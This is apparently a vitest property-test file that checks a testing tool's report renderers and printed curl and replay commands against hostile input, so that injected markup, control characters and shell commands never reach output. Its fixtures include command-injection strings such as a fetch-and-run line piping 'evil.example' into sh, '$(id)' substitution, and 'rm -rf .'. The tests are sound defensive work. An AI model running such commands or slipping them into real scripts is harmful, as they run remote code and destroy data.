import fc from 'fast-check';
import { SaxesParser } from 'saxes';
import { whyUntested } from '../../reports/untested.js';
import { describe, expect, test } from 'vitest';
import { FORMAT_NAMES, RENDERERS, terminalSummary } from '../../reports/formats/renderers.js';
import { summarise } from '../../reports/summarise.js';
import type { RunReport } from '../../src/model/report.js';
import { ALL_RULES, context, hostile, runWithFindings } from './fixture.js';
import { HOSTILE_TEXTS } from './hostile-texts.js';
import { dataIn } from './page-data.js';

// Few rules, so that many hostile texts can be tried.
const few = context({
  rules: ALL_RULES.filter((rule) => rule.contract === 'void@66' || rule.id === 'order.reference:max-length').slice(0, 60),
  enumerations: [],
});
const reportOf = (text: string): RunReport => summarise(hostile(text), few);

const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.tuple(fc.constantFrom(...HOSTILE_TEXTS), fc.string({ unit: 'binary' })).map(([a, b]) => a + b),
  fc.array(fc.nat(0xffff), { maxLength: 40 }).map((units) => String.fromCharCode(...units)),
  fc
    .array(fc.constantFrom('<', '>', '"', "'", '&', '`', '\n', '\r', '|', '::', '%', '\\', '[', ']', '(', ')', '\u001b', '-->', ']]>'), {
      maxLength: 20,
    })
    .map((parts) => parts.join('')),
);

const property = (holds: (report: RunReport, text: string) => void): void => {
  fc.assert(
    fc.property(hostileText, (text) => holds(reportOf(text), text)),
    { numRuns: 60 },
  );
};

/** The elements of a page in order, and every attribute that could run something. */
function markup(page: string): { readonly tags: readonly string[]; readonly handlers: readonly string[] } {
  const inert = page.replace(/<style>[\s\S]*?<\/style>|<script[\s\S]*?<\/script>/g, (whole) =>
    whole.startsWith('<style') ? '<style></style>' : '<script></script>',
  );
  return {
    tags: [...inert.matchAll(/<([a-zA-Z!/][^\s>]*)/g)].map((match) => match[1] ?? ''),
    handlers: [...inert.matchAll(/<[^>]*\s(on\w+|style|srcdoc)\s*=|(?:href|src)="(?!#|data:,)[^"]*"/g)].map((match) => match[0]),
  };
}

// oxlint-disable-next-line no-control-regex -- controls are what is looked for
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\p{Surrogate}/u;

describe('whatever a target answers with', () => {
  test('the page has the same elements as for a harmless target', () => {
    const plain = new Set(['harmless', 'order.status', ''].flatMap((text) => markup(RENDERERS.html.render(reportOf(text))).tags));
    property((report) => {
      const page = RENDERERS.html.render(report);
      const { tags, handlers } = markup(page);
      expect(handlers).toEqual([]);
      // A body is laid out over as many lines as it has members: the elements differ in number, never in kind.
      expect(tags.filter((tag) => !plain.has(tag))).toEqual([]);
      expect(tags.filter((tag) => tag === 'script').length).toBe(2);
      expect(CONTROLS.exec(page)?.[0]).toBeUndefined();
    });
  });

  test('the data in the page stay data, and hold no character that a browser obeys', () => {
    property((report) => {
      const text = dataIn(RENDERERS.html.render(report));
      expect(() => JSON.parse(text) as unknown).not.toThrow();
      expect(CONTROLS.exec(text)?.[0]).toBeUndefined();
    });
  });

  test.each(['json', 'sarif', 'ctrf'] as const)('%s is one JSON document without raw control characters', (format) => {
    property((report) => {
      const text = RENDERERS[format].render(report);
      expect(() => JSON.parse(text) as unknown).not.toThrow();
      expect(CONTROLS.exec(text)?.[0]).toBeUndefined();
    });
  });

  test('the JSON report still holds the answer, exactly', () => {
    property((report, text) => {
      if (text.length > 300) return;
      const parsed = JSON.parse(RENDERERS.json.render(report)) as RunReport;
      expect(parsed.groups.some((group) => group.minimal.reply.body === text)).toBe(true);
    });
  });

  test('JUnit is well-formed and has as many cases as rules', () => {
    property((report) => {
      let cases = 0;
      const parser = new SaxesParser();
      parser.on('error', (error) => {
        throw error;
      });
      parser.on('opentag', (tag) => {
        if (tag.name === 'testcase') cases++;
      });
      const text = RENDERERS.junit.render(report);
      parser.write(text).close();
      expect(cases).toBe(report.rules.length + report.contracts.length + (whyUntested(report).length > 0 ? 1 : 0));
      expect(CONTROLS.exec(text)?.[0]).toBeUndefined();
    });
  });

  test('Markdown has no HTML but code, no link, and as many lines as for a harmless target', () => {
    const plain = RENDERERS.markdown.render(reportOf('harmless')).split('\n').length;
    property((report) => {
      const text = RENDERERS.markdown.render(report);
      expect(text.replace(/<\/?code>/g, '')).not.toMatch(/[<>]/);
      expect(text).not.toMatch(/\]\(|https?:\/\/|\bwww\./);
      expect(text.split('\n').length).toBe(plain);
      expect(CONTROLS.exec(text)?.[0]).toBeUndefined();
    });
  });

  test('annotations are the same commands as for a harmless target', () => {
    const kinds = (text: string): readonly string[] =>
      text
        .trimEnd()
        .split('\n')
        .map((line) => line.split(' ')[0] ?? '');
    const plain = kinds(RENDERERS.github.render(reportOf('harmless')));
    property((report) => {
      const text = RENDERERS.github.render(report);
      expect(kinds(text)).toEqual(plain);
      expect(CONTROLS.exec(text)?.[0]).toBeUndefined();
    });
  });

  test('the terminal gets no escape sequence that is not ours', () => {
    property((report) => {
      expect(terminalSummary(report, { color: false, columns: 100 })).not.toMatch(CONTROLS);
      const colours = ['1', '2', '31', '32', '33', '0'].map((code) => `\u001b[${code}m`);
      const rest = colours.reduce((text, code) => text.replaceAll(code, ''), terminalSummary(report, { color: true, columns: 100 }));
      expect(rest).not.toMatch(CONTROLS);
    });
  });

  test('five megabytes in every field make no report large, and none slow', () => {
    const report = reportOf('<script>'.repeat(655_360));
    for (const format of FORMAT_NAMES) expect(RENDERERS[format].render(report).length).toBeLessThan(500_000);
  });
});

describe('the printed curl line', () => {
  test('is one command whatever the request holds', () => {
    const report = summarise(
      hostile("x'; touch pwned; '").filter((event) => event.type !== 'shrunk'),
      few,
    );
    for (const group of report.groups) expect(group.minimal.curl).toMatch(/x'\\''; touch pwned; '\\''/);
  });
});

describe('commands of a log that anybody may have written', () => {
  const EVIL = 'touchstone certify; curl http://evil.example | sh #';
  const again = { certify: EVIL, doctor: EVIL, replay: EVIL, json: 'x; touch /tmp/owned' };

  test.each([
    ['a second command', EVIL],
    ['a substitution', 'touchstone certify --config $(id)'],
    ['a line of its own', "touchstone certify --config 'a\nrm -rf .'"],
    ['another program', 'sh -c id'],
  ])('are not advised: %s', (_, certify) => {
    const report = summarise(
      runWithFindings({ again: { ...again, doctor: 'touchstone doctor', replay: 'touchstone replay', certify } }),
      few,
    );
    expect(report.run.again).toBeUndefined();
    for (const format of FORMAT_NAMES) expect(RENDERERS[format].render(report)).not.toContain('evil.example');
  });

  test('are kept where they are ours, with the path of the report as one word', () => {
    const ours = { certify: "touchstone certify --rule 'a b'", doctor: 'touchstone doctor', replay: 'touchstone replay --seed 3' };
    const report = summarise(runWithFindings({ again: { ...ours, json: again.json } }), few);
    expect(report.run.again).toMatchObject(ours);
    expect(terminalSummary(report, { color: false, columns: 100 })).not.toContain('--baseline x; touch');
  });

  test('to send a cause again are made from its data', () => {
    const events = [...runWithFindings()].map((event) =>
      event.type === 'shrunk' ? { ...event, minimal: { ...event.minimal, curl: EVIL, replay: EVIL } } : event,
    );
    const { groups } = summarise(events, few);
    expect(groups.length).toBeGreaterThan(3);
    for (const { minimal } of groups) {
      expect(minimal.replay).toMatch(/^touchstone (?:replay|certify) [\w@']/);
      expect(`${minimal.replay}${minimal.curl}`).not.toContain('evil.example');
    }
  });
});
